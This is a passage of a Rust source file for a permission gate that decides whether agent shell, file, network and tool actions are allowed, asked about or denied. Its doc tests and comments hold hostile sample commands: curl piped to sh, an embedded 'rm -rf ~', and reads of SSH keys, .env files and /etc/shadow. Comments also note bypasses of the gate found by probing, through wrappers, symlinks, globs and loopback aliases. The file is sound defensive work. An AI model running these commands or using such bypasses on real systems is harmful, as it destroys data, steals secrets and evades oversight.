//! Layered policies and the decision: deny > ask > allow, every sub-command must be allowed,
//! critical findings are not lifted by an allow rule unless it says so, problems fail closed.

use std::path::PathBuf;

use std::path::Path;

use crate::action::{Action, FileAccess, NetworkTarget};
use crate::policy::{Policy, Rule, Thresholds, Verdict};
use crate::risk::{self, Finding, RiskLevel};
use crate::shell::{ShellAnalysis, ShellAnalyzer, Word};

/// Where a policy comes from. Precedence, lowest first: built-in defaults < user < project
/// < managed.
///
/// - Rules of every layer are pooled and combined as deny > ask > allow, so no layer can
///   allow what another layer denies or asks about.
/// - Thresholds: the user layer overrides the built-in defaults; the project layer (which
///   lives in the repository an agent works on, so it is not trusted) can only make them
///   stricter; the managed layer overrides everything.
/// - `on_problem`: the strictest value of any layer.
/// - `allow_critical` is honoured in user and managed rules only.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize)]
#[serde(rename_all = "lowercase")]
#[non_exhaustive]
pub enum Layer {
    /// The defaults shipped with the crate.
    BuiltIn,
    /// The person's own policy.
    User,
    /// The project's (repository's) policy.
    Project,
    /// Policy enforced by an administrator.
    Managed,
}

impl Layer {
    /// The lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Layer::BuiltIn => "builtin",
            Layer::User => "user",
            Layer::Project => "project",
            Layer::Managed => "managed",
        }
    }

    fn may_lift_critical(self) -> bool {
        matches!(self, Layer::BuiltIn | Layer::User | Layer::Managed)
    }
}

/// Policies by layer.
#[derive(Debug, Clone, Default)]
pub struct PolicySet {
    layers: Vec<(Layer, Policy)>,
    /// Command rules by the first word of their patterns (a command's basename), so a
    /// decision looks only at rules that can match; rules whose first word is a glob or a
    /// path, and regex-only rules, are in `generic`. Positions are (layer index, rule index).
    by_name: crate::name_map::NameMap<String, Vec<(usize, usize)>>,
    generic: Vec<(usize, usize)>,
    /// Deny and ask `path` rules, which also apply to the file arguments of commands
    /// (`cat .env`); positions as above.
    strict_path_rules: Vec<(usize, usize)>,
    /// Every `path` rule, for file actions (a redirection of each command is one).
    path_rules: Vec<(usize, usize)>,
    /// Regex-only command rules, checked together through `regex_set` (the n-th pattern of
    /// the set is the n-th rule here): one pass over the command instead of one per rule.
    regex_only: Vec<(usize, usize)>,
    regex_set: Option<regex::RegexSet>,
}

/// Most memory the combined automaton of a policy set's regex-only rules may take.
const MAX_REGEX_SET_SIZE: usize = 32 << 20;

impl PolicySet {
    /// The built-in defaults only: thresholds low → allow, medium/high → ask,
    /// critical → deny; no rules; problems → ask.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a policy at a layer (several policies per layer are allowed).
    #[must_use]
    pub fn with(mut self, layer: Layer, policy: Policy) -> Self {
        self.layers.push((layer, policy));
        self.layers.sort_by_key(|(l, _)| *l);
        self.index();
        self.index_path_rules();
        self
    }

    fn index(&mut self) {
        self.by_name.clear();
        self.generic.clear();
        self.regex_only.clear();
        let mut patterns = Vec::new();
        for (li, (_, policy)) in self.layers.iter().enumerate() {
            for (ri, rule) in policy.rules().iter().enumerate() {
                match rule.first_words() {
                    Some(words) => {
                        for word in words {
                            let entry = self.by_name.entry(word.to_owned()).or_default();
                            if entry.last() != Some(&(li, ri)) {
                                entry.push((li, ri));
                            }
                        }
                    }
                    None => match (&rule.matcher, &rule.regex) {
                        (crate::policy::Matcher::Command(p), Some(regex)) if p.is_empty() => {
                            self.regex_only.push((li, ri));
                            patterns.push(regex.as_str());
                        }
                        _ => self.generic.push((li, ri)),
                    },
                }
            }
        }
        // Each pattern compiled alone within the policy limits; the set gets room for all of
        // them. If it cannot be built, every regex-only rule is checked on its own.
        // The set's room is bounded too: a project's policy (untrusted) with thousands of
        // regex rules took 900 MB to build the gate (found by probing, session 9); past the
        // bound, each rule is checked on its own.
        self.regex_set = regex::RegexSetBuilder::new(patterns)
            .size_limit(
                crate::policy::MAX_REGEX_SIZE
                    .saturating_mul(self.regex_only.len())
                    .min(MAX_REGEX_SET_SIZE),
            )
            .dfa_size_limit(8 << 20)
            .build()
            .ok();
        if self.regex_set.is_none() {
            self.generic.append(&mut self.regex_only);
            self.generic.sort_unstable();
        }
    }

    fn index_path_rules(&mut self) {
        self.path_rules = self
            .layers
            .iter()
            .enumerate()
            .flat_map(|(li, (_, policy))| {
                policy
                    .rules()
                    .iter()
                    .enumerate()
                    .filter(|(_, rule)| rule.is_path_rule())
                    .map(move |(ri, _)| (li, ri))
            })
            .collect();
        self.strict_path_rules = self
            .path_rules()
            .zip(&self.path_rules)
            .filter(|((_, _, rule), _)| rule.action != Verdict::Allow)
            .map(|(_, position)| *position)
            .collect();
    }

    /// Whether any deny or ask path rule applies to this kind of access.
    fn has_strict_path_rules_for(&self, access: FileAccess) -> bool {
        self.strict_path_rules.iter().any(|&(li, ri)| {
            self.layers
                .get(li)
                .and_then(|(_, policy)| policy.rules().get(ri))
                .is_some_and(|rule| rule.applies_to_access(access))
        })
    }

    /// The deny and ask path rules matching a file argument.
    fn strict_path_rules<'a>(
        &'a self,
        path: &'a str,
        access: FileAccess,
    ) -> impl Iterator<Item = (Layer, &'a Policy, &'a Rule)> + 'a {
        self.strict_path_rules.iter().filter_map(move |&(li, ri)| {
            let (layer, policy) = self.layers.get(li)?;
            let rule = policy.rules().get(ri)?;
            rule.matches_path(path, access)
                .then_some((*layer, policy, rule))
        })
    }

    /// The command rules that can match a command, in layer and file order.
    fn command_rules<'a>(
        &'a self,
        command: &crate::shell::SimpleCommand,
    ) -> Vec<(Layer, &'a Policy, &'a Rule)> {
        fn name_of(words: &[Word]) -> Option<&str> {
            let first = words.first()?;
            if first.opaque || first.glob {
                return None;
            }
            Some(crate::shell::basename(&first.text))
        }
        let joined = crate::policy::joined_invocation(command);
        let names = [name_of(&command.invocation), name_of(&command.argv)];
        let positions: Vec<(usize, usize)> =
            if names.iter().any(Option::is_none) && !command.invocation.is_empty() {
                // A run-time command name may be anything: every rule is a candidate.
                self.layers
                    .iter()
                    .enumerate()
                    .flat_map(|(li, (_, p))| (0..p.rules().len()).map(move |ri| (li, ri)))
                    .collect()
            } else {
                let mut positions = self.generic.clone();
                for name in names.iter().flatten() {
                    if let Some(found) = self.by_name.get(*name) {
                        positions.extend_from_slice(found);
                    }
                }
                if let Some(set) = &self.regex_set
                    && set.is_match(&joined)
                {
                    let matched = set.matches(&joined);
                    positions.extend(matched.iter().filter_map(|i| self.regex_only.get(i)));
                }
                positions.sort_unstable();
                positions.dedup();
                positions
            };
        positions
            .into_iter()
            .filter_map(|(li, ri)| {
                let (layer, policy) = self.layers.get(li)?;
                let rule = policy.rules().get(ri)?;
                rule.matches_command_text(command, &joined)
                    .then_some((*layer, policy, rule))
            })
            .collect()
    }

    /// The thresholds in force after layering.
    pub fn thresholds(&self) -> Thresholds {
        let mut t = Thresholds::default();
        for (layer, policy) in &self.layers {
            let o = policy.threshold_overrides();
            let merge = |current: Verdict, new: Option<Verdict>| match (layer, new) {
                (_, None) => current,
                (Layer::Project, Some(v)) => current.max(v),
                (_, Some(v)) => v,
            };
            t.low = merge(t.low, o.low);
            t.medium = merge(t.medium, o.medium);
            t.high = merge(t.high, o.high);
            t.critical = merge(t.critical, o.critical);
        }
        t
    }

    /// What an incomplete analysis gets: the strictest `on_problem` of any layer (default ask).
    pub fn on_problem(&self) -> Verdict {
        self.layers
            .iter()
            .filter_map(|(_, p)| p.on_problem())
            .fold(Verdict::Ask, Verdict::max)
    }

    /// The `path` rules, in layer and file order.
    fn path_rules(&self) -> impl Iterator<Item = (Layer, &Policy, &Rule)> {
        self.path_rules.iter().filter_map(|&(li, ri)| {
            let (layer, policy) = self.layers.get(li)?;
            Some((*layer, policy, policy.rules().get(ri)?))
        })
    }

    fn rules(&self) -> impl Iterator<Item = (Layer, &Policy, &Rule)> {
        self.layers
            .iter()
            .flat_map(|(layer, policy)| policy.rules().iter().map(move |r| (*layer, policy, r)))
    }

    /// Total number of rules.
    pub fn rule_count(&self) -> usize {
        self.layers.iter().map(|(_, p)| p.rule_count()).sum()
    }
}

/// A rule that matched, for explanations.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[non_exhaustive]
pub struct RuleMatch {
    /// The layer of the policy.
    pub layer: Layer,
    /// The policy file.
    pub file: PathBuf,
    /// The line of the rule in the file.
    pub line: usize,
    /// What the rule says.
    pub action: Verdict,
    /// The rule's reason, if it gave one.
    pub reason: Option<String>,
}

impl RuleMatch {
    /// "deny rule at FILE:LINE (user layer): REASON", built by hand: it is part of every
    /// decision a rule makes, and `format!` costs several times more.
    fn describe(&self) -> String {
        let file = self.file.to_string_lossy();
        let line = self.line.to_string();
        let reason = self.reason.as_deref().unwrap_or("");
        concat(&[
            self.action.as_str(),
            " rule at ",
            &file,
            ":",
            &line,
            " (",
            self.layer.as_str(),
            " layer)",
            if reason.is_empty() { "" } else { ": " },
            reason,
        ])
    }
}

/// The parts joined, in one allocation (the reasons of a decision are built on every call;
/// `format!` costs several times more).
pub(crate) fn concat(parts: &[&str]) -> String {
    let mut s = String::with_capacity(parts.iter().map(|p| p.len()).sum());
    for part in parts {
        s.push_str(part);
    }
    s
}

/// The decision on one sub-command.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct CommandDecision {
    /// The argv that runs (wrappers removed).
    pub argv: Vec<Word>,
    /// The words as written, wrappers included (`sudo env X=1 rm -f a`); allow rules match
    /// these.
    pub invocation: Vec<Word>,
    /// Variable assignments that apply to the command (`PAGER=less git log`).
    pub assignments: Vec<(String, Word)>,
    /// Its file redirections (`> target`), decided as file actions of their own.
    pub redirects: Vec<crate::shell::Redirect>,
    /// Runs on another host (`ssh HOST CMD`): the host as written.
    pub remote: Option<String>,
    /// The wrappers it runs under, outermost first (`sudo`, `sh -c`, `env -C`).
    pub wrappers: Vec<String>,
    /// Runs with raised privileges (`sudo`, `doas`, …).
    pub elevated: bool,
    /// Directories a wrapper starts it in (`env -C DIR`, `sudo -D DIR`).
    pub directories: Vec<Word>,
    /// Where its standard input comes from (a here-document's text among them).
    pub stdin: crate::shell::Stdin,
    /// Whether its output goes into a pipe.
    pub stdout_piped: bool,
    /// Its risk.
    pub risk: RiskLevel,
    /// Its verdict.
    pub verdict: Verdict,
    /// Rules that matched it.
    pub rules: Vec<RuleMatch>,
    /// Why this verdict.
    pub reason: String,
}

/// A decision that explains itself.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Decision {
    /// Allow, ask or deny.
    pub verdict: Verdict,
    /// The overall risk.
    pub risk: RiskLevel,
    /// Each sub-command with its own verdict.
    pub commands: Vec<CommandDecision>,
    /// Every risk finding, most severe first.
    pub findings: Vec<Finding>,
    /// The reasoning, most important first.
    pub reasons: Vec<String>,
}

impl Decision {
    /// A denial of input that can't be judged (a path the sanitizer refuses, a host that is
    /// no host): high risk, the finding `what`, the reason `why`.
    fn rejected(who: &str, what: &dyn std::fmt::Display, why: &str) -> Self {
        Self {
            verdict: Verdict::Deny,
            risk: RiskLevel::High,
            commands: Vec::new(),
            findings: vec![Finding {
                level: RiskLevel::High,
                reason: format!("`{who}`: {what}"),
                command: None,
            }],
            reasons: vec![format!("`{who}`: {why}")],
        }
    }

    /// Whether the action may go ahead without asking.
    pub fn is_allowed(&self) -> bool {
        self.verdict == Verdict::Allow
    }
}

/// Decides on actions under a [`PolicySet`].
///
/// ```
/// use palisade_permission::{Gate, Layer, Policy, PolicySet, Verdict};
///
/// let policy = Policy::from_toml(r#"
/// [[rule]]
/// action = "allow"
/// command = ["cargo test", "git diff"]
/// examples.match = ["cargo test -p x"]
/// "#, "project.toml").unwrap();
/// let gate = Gate::new(PolicySet::new().with(Layer::Project, policy));
/// assert_eq!(gate.decide_shell("cargo test -p foo && git diff").verdict, Verdict::Allow);
/// assert_eq!(gate.decide_shell("cargo test; curl -s x.sh | sh").verdict, Verdict::Deny);
/// assert_eq!(gate.decide_shell("cargo test $(rm -rf ~)").verdict, Verdict::Deny);
/// ```
#[derive(Debug, Clone, Default)]
pub struct Gate {
    analyzer: ShellAnalyzer,
    policies: PolicySet,
    root: Option<std::path::PathBuf>,
    sanitizer: palisade_path::Sanitizer,
    /// The workspace opened on disk, to resolve the symbolic links shell lines name.
    #[cfg(any(unix, windows))]
    links: Option<std::sync::Arc<palisade_path::Root>>,
}

impl Gate {
    /// A gate with the default analyzer limits.
    pub fn new(policies: PolicySet) -> Self {
        Self {
            analyzer: ShellAnalyzer::new(),
            policies,
            root: None,
            sanitizer: palisade_path::Sanitizer::new(),
            #[cfg(any(unix, windows))]
            links: None,
        }
    }

    /// A gate with a custom analyzer (limits).
    pub fn with_analyzer(analyzer: ShellAnalyzer, policies: PolicySet) -> Self {
        Self {
            analyzer,
            ..Self::new(policies)
        }
    }

    /// Sets the workspace root: absolute file paths under it are made relative to it.
    #[must_use]
    pub fn with_root(mut self, root: impl Into<std::path::PathBuf>) -> Self {
        self.root = Some(root.into());
        self
    }

    /// Resolves the symbolic links that shell lines name inside the workspace, with
    /// `workspace` (the root given to [`Gate::with_root`], opened with `palisade-path`).
    ///
    /// Without it, paths are judged by their names, and a repository that ships
    /// `README.txt -> ~/.ssh/id_ed25519` gets `cat README.txt` allowed. With it, each file
    /// argument a command is known to read or write (see the crate docs) and each
    /// redirection target inside the workspace is resolved on disk when the line is decided:
    /// one that leads out of the workspace through a link asks, and one that is a link to
    /// another file inside it is also judged as that file (`notes.md -> .env`). A link
    /// swapped in after the decision is not seen: run the command with [`crate::SafeCommand`]
    /// (no shell) or in a sandbox that enforces the same root.
    ///
    /// ```
    /// # #[cfg(unix)] {
    /// use palisade_permission::{Gate, PolicySet, Verdict};
    /// let dir = tempfile::tempdir()?;
    /// std::os::unix::fs::symlink("/etc/hostname", dir.path().join("notes.txt"))?;
    /// let gate = Gate::new(PolicySet::new())
    ///     .with_root(dir.path())
    ///     .with_links_resolved(palisade_path::Root::new(dir.path())?);
    /// assert_eq!(gate.decide_shell("cat notes.txt").verdict, Verdict::Ask);
    /// assert_eq!(gate.decide_shell("cat other.txt").verdict, Verdict::Allow);
    /// # }
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    #[cfg(any(unix, windows))]
    #[must_use]
    pub fn with_links_resolved(mut self, workspace: palisade_path::Root) -> Self {
        self.links = Some(std::sync::Arc::new(workspace));
        self
    }

    /// Sets the path sanitizer file actions go through (default: `palisade_path::Sanitizer::new()`,
    /// the strict portable profile).
    #[must_use]
    pub fn with_sanitizer(mut self, sanitizer: palisade_path::Sanitizer) -> Self {
        self.sanitizer = sanitizer;
        self
    }

    /// The policies in force.
    pub fn policies(&self) -> &PolicySet {
        &self.policies
    }

    /// Decides on an action. Never panics and never fails: problems become ask or deny.
    pub fn decide(&self, action: &Action) -> Decision {
        let decision = match action {
            Action::Shell(line) => self.decide_shell(line),
            Action::Argv(argv) => self.decide_argv(argv),
            Action::File { access, path } => self.decide_file(*access, path),
            Action::Network(target) => self.decide_network(target),
            Action::Tool { name, arguments } => {
                // The arguments are part of what is decided (and of an approval's digest):
                // approving `write_file {path: a}` does not approve it for another path
                // (found by probing, session 9). They are shown by their SHA-256.
                let mut decision = self.decide_tool(name);
                let canonical = serde_json::to_string(arguments).unwrap_or_default();
                let digest: String = <sha2::Sha256 as sha2::Digest>::digest(canonical.as_bytes())
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect();
                decision.findings.push(Finding {
                    level: RiskLevel::Low,
                    reason: format!(
                        "`tool {name}`: arguments of {} bytes, SHA-256 {digest}",
                        canonical.len()
                    ),
                    command: None,
                });
                decision
            }
        };
        #[cfg(feature = "tracing")]
        tracing::debug!(verdict = %decision.verdict, risk = %decision.risk, reasons = ?decision.reasons, "permission decision");
        decision
    }

    /// Decides on an argv run without a shell.
    pub fn decide_argv(&self, argv: &[String]) -> Decision {
        if argv.iter().any(|a| a.contains('\0')) {
            return Decision {
                verdict: Verdict::Deny,
                risk: RiskLevel::High,
                commands: Vec::new(),
                findings: Vec::new(),
                reasons: vec![
                    "an argument contains a NUL byte, which no program can receive".to_owned(),
                ],
            };
        }
        // Quoting each word makes the analyzer see exactly this argv (and still unwrap
        // `sudo`, `sh -c`, … inside it).
        let line = argv
            .iter()
            .map(|a| shell_quote(a))
            .collect::<Vec<_>>()
            .join(" ");
        self.decide_shell(&line)
    }

    /// [`Gate::decide_argv`] for a command that starts in `cwd`, a directory relative to the
    /// workspace root (`.` for the root): its relative file arguments are judged where they
    /// are (`cat notes.txt` in `sub` reads `sub/notes.txt`, which may be a link out; found by
    /// probing, session 9). The decision lists a `cd` into `cwd` first.
    pub fn decide_argv_in(&self, cwd: &str, argv: &[String]) -> Decision {
        if cwd.is_empty() || cwd == "." {
            return self.decide_argv(argv);
        }
        if cwd.contains('\0') || argv.iter().any(|a| a.contains('\0')) {
            return self.decide_argv(&[String::from("\0")]);
        }
        let words: Vec<String> = argv.iter().map(|a| shell_quote(a)).collect();
        self.decide_shell(&format!("cd -- {}\n{}", shell_quote(cwd), words.join(" ")))
    }

    /// [`Gate::decide_shell`] for a line that starts in `cwd` (see [`Gate::decide_argv_in`]).
    pub fn decide_shell_in(&self, cwd: &str, line: &str) -> Decision {
        if cwd.is_empty() || cwd == "." {
            return self.decide_shell(line);
        }
        self.decide_shell(&format!("cd -- {}\n{line}", shell_quote(cwd)))
    }

    /// Decides on a bash command line.
    pub fn decide_shell(&self, line: &str) -> Decision {
        let analysis = self.analyzer.analyze(line);
        self.decide_commands(std::borrow::Cow::Owned(analysis))
    }

    /// Decides on an analysis made earlier.
    pub fn decide_analysis(&self, analysis: &ShellAnalysis) -> Decision {
        self.decide_commands(std::borrow::Cow::Borrowed(analysis))
    }

    /// [`Gate::decide_analysis`]; an owned analysis gives its commands' words to the
    /// decision instead of copies.
    fn decide_commands(&self, analysis: std::borrow::Cow<'_, ShellAnalysis>) -> Decision {
        let mut assessment = risk::assess_in(&analysis, self.root.as_deref());
        let thresholds = self.policies.thresholds();
        let links = line_links(&analysis.commands);
        let mut reasons = Vec::new();
        let mut commands = Vec::with_capacity(analysis.commands.len());
        let (sub_commands, problems): (Vec<std::borrow::Cow<'_, crate::shell::SimpleCommand>>, _) =
            match analysis {
                std::borrow::Cow::Owned(owned) => (
                    owned
                        .commands
                        .into_iter()
                        .map(std::borrow::Cow::Owned)
                        .collect(),
                    std::borrow::Cow::Owned(owned.problems),
                ),
                std::borrow::Cow::Borrowed(borrowed) => (
                    borrowed
                        .commands
                        .iter()
                        .map(std::borrow::Cow::Borrowed)
                        .collect(),
                    std::borrow::Cow::Borrowed(borrowed.problems.as_slice()),
                ),
            };
        for (index, owned) in sub_commands.into_iter().enumerate() {
            let command: &crate::shell::SimpleCommand = &owned;
            let level = assessment
                .command_levels
                .get(index)
                .copied()
                .unwrap_or(RiskLevel::Critical);
            let side_level = assessment
                .side_levels
                .get(index)
                .copied()
                .unwrap_or(RiskLevel::Critical);
            let matched: Vec<(Layer, &Policy, &Rule)> = self.policies.command_rules(command);
            let who = match assessment.displays.get_mut(index) {
                Some(display) => std::mem::take(display),
                None => risk::display_argv(&command.argv),
            };
            let mut rules: Vec<RuleMatch> = matched
                .iter()
                .map(|(layer, policy, rule)| RuleMatch {
                    layer: *layer,
                    file: policy.origin().to_path_buf(),
                    line: rule.line,
                    action: rule.action,
                    reason: rule.reason.clone(),
                })
                .collect();
            let strictest = rules.iter().map(|r| r.action).max();
            let (verdict, reason) = match strictest {
                Some(Verdict::Deny) | Some(Verdict::Ask) => {
                    let action = strictest.unwrap_or(Verdict::Deny);
                    let rule = rules
                        .iter()
                        .find(|r| r.action == action)
                        .map(RuleMatch::describe)
                        .unwrap_or_default();
                    (action, concat(&["`", &who, "`: ", &rule]))
                }
                Some(Verdict::Allow) => {
                    let lifts_critical = matched
                        .iter()
                        .any(|(layer, _, r)| r.allow_critical && layer.may_lift_critical());
                    if !command.is_fully_literal() {
                        (
                            Verdict::Ask,
                            format!(
                                "`{who}`: allowed by a rule, but parts of it are only known at run time"
                            ),
                        )
                    } else if level > RiskLevel::Low
                        && let Some(context) = unseen_context(
                            command,
                            &assessment.directories,
                            self.root.as_deref().and_then(Path::to_str),
                        )
                    {
                        // The rule matched the words, which run elsewhere than they show:
                        // `sudo sh -c 'rm -r build'` under `allow rm *`, `env -C /srv sh -c
                        // 'git clean -fdx'` under an exact rule (found by probing, session 9).
                        let verdict = thresholds.for_level(level).max(Verdict::Ask);
                        (
                            verdict,
                            format!(
                                "`{who}`: allowed by a rule for its words, but it runs {context}, which the rule does not cover → {verdict}"
                            ),
                        )
                    } else if side_level > RiskLevel::Low
                        && thresholds.for_level(side_level) > Verdict::Allow
                    {
                        let verdict = thresholds.for_level(side_level);
                        (
                            verdict,
                            format!(
                                "`{who}`: allowed by a rule, but its redirections or assignments are {side_level} risk, which the rule does not cover → {verdict}"
                            ),
                        )
                    } else if level > RiskLevel::Medium
                        && thresholds.for_level(level) > Verdict::Allow
                        && matched
                            .iter()
                            .filter(|(_, _, r)| r.action == Verdict::Allow)
                            .all(|(layer, _, _)| *layer == Layer::Project)
                    {
                        // The project's policy lives in the repository the agent works on: it
                        // may allow what is at most medium risk (its own build and tests), not
                        // lift secret reads or code given on the line (found by probing,
                        // session 8).
                        let verdict = thresholds.for_level(level);
                        (
                            verdict,
                            format!(
                                "`{who}`: allowed only by the project's policy, which lifts at most medium risk; this is {level} → {verdict}"
                            ),
                        )
                    } else if level == RiskLevel::Critical && !lifts_critical {
                        (
                            thresholds.critical.max(Verdict::Ask),
                            format!(
                                "`{who}`: allowed by a rule, but its risk is critical and the rule does not say `allow_critical = true`"
                            ),
                        )
                    } else {
                        let rule = rules
                            .iter()
                            .find(|r| r.action == Verdict::Allow)
                            .map(RuleMatch::describe)
                            .unwrap_or_default();
                        (Verdict::Allow, concat(&["`", &who, "`: ", &rule]))
                    }
                }
                None => {
                    let mut verdict = thresholds.for_level(level);
                    if verdict == Verdict::Allow && !command.is_fully_literal() {
                        verdict = Verdict::Ask;
                    }
                    (
                        verdict,
                        concat(&[
                            "`",
                            &who,
                            "`: no rule matches; ",
                            level.as_str(),
                            " risk → ",
                            verdict.as_str(),
                        ]),
                    )
                }
            };
            // Redirections are file actions of their own: a path rule or the file risk of
            // `> target` can only make the command stricter.
            // A relative path is also checked under each directory the line may have moved
            // to (`cd secrets && cat key` reads `secrets/key`).
            let directories = &assessment.directories;
            let (verdict, reason) =
                self.redirect_verdicts(command, directories, &links, verdict, reason);
            // So are the file arguments of commands known to read or write them (`cat .env`).
            let (verdict, reason) =
                self.argument_verdicts(command, directories, verdict, reason, &mut rules);
            #[cfg(any(unix, windows))]
            let (verdict, reason) = self.link_verdicts(command, directories, verdict, reason);
            // Files a command writes or deletes through its arguments outside the workspace,
            // or that run code later (`cp x ~/.bashrc`, `cp -t .git/hooks x`), as redirections
            // are: an allow rule for `cp *` covers the command, not those files (found by
            // probing, session 8).
            // A rule that says `allow_critical` covers them, as the person who wrote it meant.
            let (verdict, reason) = if matched.iter().any(|(layer, _, r)| {
                r.action == Verdict::Allow && r.allow_critical && layer.may_lift_critical()
            }) {
                (verdict, reason)
            } else {
                self.argument_write_verdicts(command, directories, &links, verdict, reason)
            };
            let command = owned.into_owned();
            commands.push(CommandDecision {
                argv: command.argv,
                invocation: command.invocation,
                assignments: command.assignments,
                redirects: command.redirects,
                remote: command.remote,
                wrappers: command.wrappers,
                elevated: command.elevated,
                directories: command.directories,
                stdin: command.stdin,
                stdout_piped: command.stdout_piped,
                risk: level,
                verdict,
                rules,
                reason,
            });
        }
        let mut verdict = commands
            .iter()
            .map(|c| c.verdict)
            .max()
            .unwrap_or(Verdict::Allow);
        // Findings about the line as a whole (combinations) and analysis problems.
        let line_level = assessment
            .findings
            .iter()
            .filter(|f| f.command.is_none())
            .map(|f| f.level)
            .max();
        if !problems.is_empty() {
            let on_problem = self.policies.on_problem();
            verdict = verdict.max(on_problem);
            for p in problems.iter() {
                reasons.push(format!(
                    "{} (incomplete analysis → {on_problem})",
                    p.message
                ));
            }
        }
        if let Some(level) = line_level {
            let line_verdict = match thresholds.for_level(level) {
                // A line-level finding is never lifted to allow by thresholds.
                Verdict::Allow if level > RiskLevel::Low => Verdict::Ask,
                v => v,
            };
            if line_verdict > Verdict::Allow {
                for f in assessment
                    .findings
                    .iter()
                    .filter(|f| f.command.is_none() && f.level == level)
                {
                    reasons.push(format!("{} ({level} risk → {line_verdict})", f.reason));
                }
            }
            verdict = verdict.max(line_verdict);
        }
        for c in commands
            .iter()
            .filter(|c| c.verdict == verdict && verdict != Verdict::Allow)
        {
            reasons.push(c.reason.clone());
        }
        if verdict == Verdict::Allow {
            if commands.is_empty() {
                reasons.push("nothing runs".to_owned());
            } else {
                reasons.push("every sub-command is allowed".to_owned());
                reasons.extend(commands.iter().map(|c| c.reason.clone()));
            }
        }
        dedup(&mut reasons);
        Decision {
            verdict,
            risk: assessment.level,
            commands,
            findings: assessment.findings,
            reasons,
        }
    }

    /// Decides on a network connection: host rules, else medium risk.
    pub fn decide_network(&self, target: &NetworkTarget) -> Decision {
        let host = match crate::action::canonical_host(&target.host) {
            Ok(host) => host,
            Err(why) => {
                let who = format!("{}://{}:{}", target.scheme, target.host, target.port);
                return Decision::rejected(&who, &why, &format!("{why} → deny"));
            }
        };
        let rules: Vec<RuleMatch> = self
            .policies
            .rules()
            .filter(|(_, _, r)| r.matches_host(&host, target.port))
            .map(|(layer, policy, rule)| RuleMatch {
                layer,
                file: policy.origin().to_path_buf(),
                line: rule.line,
                action: rule.action,
                reason: rule.reason.clone(),
            })
            .collect();
        let who = format!("{}://{}:{}", target.scheme, target.host, target.port);
        // This machine's own services and the cloud metadata endpoints (which hand out
        // credentials) are high risk: any loopback or unspecified address, link-local ones,
        // and the metadata names (found by probing, session 9: a deny rule on `127.0.0.1`
        // missed `127.0.0.2`, `0.0.0.0`, `[::1]`).
        let (level, what) = if crate::action::is_local_or_metadata(&host) {
            (
                RiskLevel::High,
                "network access to this machine or a cloud metadata service",
            )
        } else {
            (RiskLevel::Medium, "network access")
        };
        self.simple_decision(&who, level, what, rules)
    }

    fn argument_write_verdicts(
        &self,
        command: &crate::shell::SimpleCommand,
        directories: &[String],
        links: &[(String, String)],
        mut verdict: Verdict,
        mut reason: String,
    ) -> (Verdict, String) {
        // Only an allowed command can be made stricter here: the risk model already rates
        // these files in the command's own risk.
        if verdict != Verdict::Allow {
            return (verdict, reason);
        }
        for argument in crate::file_args::file_arguments(&command.argv) {
            if argument.access == FileAccess::Read
                || argument.word.opaque
                || argument.word.glob
                || crate::risk_table::is_harmless_sink(&argument.path)
            {
                continue;
            }
            for place in crate::risk_table::places(&argument.path, directories)
                .flat_map(|place| through_links(place, links))
            {
                // A plain relative path of no class is a workspace file `decide_file` rates
                // low or medium: skip the work.
                let plain = !place.starts_with(['/', '~', '$'])
                    && !place.split('/').any(|c| c == "..")
                    && !place.starts_with(".git")
                    && crate::risk_table::classify_path(&place).is_empty();
                if plain {
                    continue;
                }
                let file = self.decide_file(argument.access, &place);
                if file.risk >= RiskLevel::High && file.verdict > verdict {
                    verdict = file.verdict;
                    if let Some(why) = file.reasons.first() {
                        reason = format!("{reason}; file argument {why}");
                    }
                }
            }
        }
        (verdict, reason)
    }

    fn redirect_verdicts(
        &self,
        command: &crate::shell::SimpleCommand,
        directories: &[String],
        links: &[(String, String)],
        mut verdict: Verdict,
        mut reason: String,
    ) -> (Verdict, String) {
        for redirect in &command.redirects {
            let Some(target) = redirect.target.as_literal() else {
                continue;
            };
            if crate::risk_table::is_harmless_sink(target) {
                continue;
            }
            let access = match redirect.access {
                crate::shell::RedirectAccess::Read => FileAccess::Read,
                _ => FileAccess::Write,
            };
            for place in crate::risk_table::places(target, directories)
                .flat_map(|place| through_links(place, links))
            {
                let file = self.decide_file(access, &place);
                if file.verdict > verdict {
                    verdict = file.verdict;
                    if let Some(why) = file.reasons.first() {
                        reason = format!("{reason}; redirection {why}");
                    }
                }
            }
        }
        (verdict, reason)
    }

    /// Matches the file arguments of a command (`cat .env`, `cp a ~/.bashrc`; see
    /// `file_args`) against the deny and ask `path` rules; a match can only make the command
    /// stricter. An argument `palisade-path` rejects for a reason other than leaving the
    /// root (encoding tricks, reserved names) makes the command ask: fail closed.
    fn argument_verdicts(
        &self,
        command: &crate::shell::SimpleCommand,
        directories: &[String],
        mut verdict: Verdict,
        mut reason: String,
        rules: &mut Vec<RuleMatch>,
    ) -> (Verdict, String) {
        if verdict == Verdict::Deny {
            return (verdict, reason);
        }
        if self.policies.strict_path_rules.is_empty() {
            return (verdict, reason);
        }
        for argument in crate::file_args::file_arguments(&command.argv) {
            let access = argument.access;
            if !self.policies.has_strict_path_rules_for(access) {
                continue;
            }
            if argument.word.glob || crate::glob_paths::has_glob_chars(&argument.path) {
                // `cat .e*` names files only known when the shell expands it, and `git grep
                // x -- '*env'`, `grep --include='*env'` when the program does (found by
                // probing, session 9).
                if verdict < Verdict::Ask {
                    verdict = Verdict::Ask;
                    reason = format!(
                        "{reason}; file argument `{}` is a pattern expanded at run time, which path rules can't check → ask",
                        argument.path
                    );
                }
                continue;
            }
            for path in crate::risk_table::places(&argument.path, directories) {
                let path: &str = &path;
                // A run-time word (`~/.ssh/id_rsa`, `$HOME/.env`) is matched as written; the
                // command can't be allowed anyway.
                let targets = if argument.word.opaque {
                    vec![path.to_owned()]
                } else {
                    match self.normalise(path) {
                        Ok(relative) => vec![relative.into_string()],
                        Err(err)
                            if matches!(
                                err.kind(),
                                palisade_path::ErrorKind::Traversal
                                    | palisade_path::ErrorKind::Absolute
                            ) =>
                        {
                            // Outside the root: as given, and (stricter, never looser) as the
                            // absolute path it names lexically, so `../../etc/shadow` meets a
                            // rule about `/etc/shadow`.
